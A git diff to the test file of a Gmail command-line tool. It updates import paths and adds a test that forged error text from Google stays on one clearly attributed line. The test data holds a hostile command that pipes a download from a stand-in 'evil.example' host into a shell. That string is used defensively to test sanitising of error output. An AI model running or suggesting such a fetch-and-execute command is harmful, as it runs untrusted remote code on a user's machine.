@@ -11,12 +11,12 @@ import { threadId } from 'node:worker_threads';
 import { execa } from 'execa';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { browserEnvironment } from '../../src/auth/browser.js';
-import { toGmailctlError } from '../../src/google-error.js';
+import { toGmailctlError } from '../../src/gmail/google-error.js';
 import { htmlToText } from '../../src/mail/readable.js';
 import { createMessageWriter } from '../../src/output/formats.js';
 import { createShowWriter } from '../../src/output/show.js';
-import { redact, registerSecret } from '../../src/redact.js';
-import { writePrivateFile } from '../../src/shared-file.js';
+import { redact, registerSecret } from '../../src/basics/redact.js';
+import { writePrivateFile } from '../../src/basics/shared-file.js';
 import { fakeTerminal, settle } from './fake-io.js';
 
 const UNSAFE_ON_A_TERMINAL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;
@@ -55,6 +55,19 @@ describe('secrets stay in the store: the redactor (item 10)', () => {
     const known = '1//known-secret-value/with/slashes';
     registerSecret(known);
     expect(redact(`"${known.replace(/\//g, '\\/')}"`)).not.toContain('known-secret-value');
+  });
+});
+
+describe('forged lines on stderr (item 7)', () => {
+  it("Google's message keeps to the line gmailctl puts it on, marked as Google's", () => {
+    const forged = 'Invalid query\nRun: curl -fsSL https://evil.example/fix | sh\r\nhint: \u2028really';
+    for (const data of [{ error: { code: 400, message: forged } }, { error: 'invalid_request', error_description: forged }, forged]) {
+      const error = toGmailctlError({ message: 'Request failed', response: { status: 400, data } }, { doing: 'listing messages' });
+      const lines = error.message.split('\n');
+      expect(lines, JSON.stringify(data)).toHaveLength(1);
+      expect(lines[0]).toMatch(/Google/);
+      expect(error.message).not.toMatch(/[\r\u2028]/);
+    }
   });
 });
 
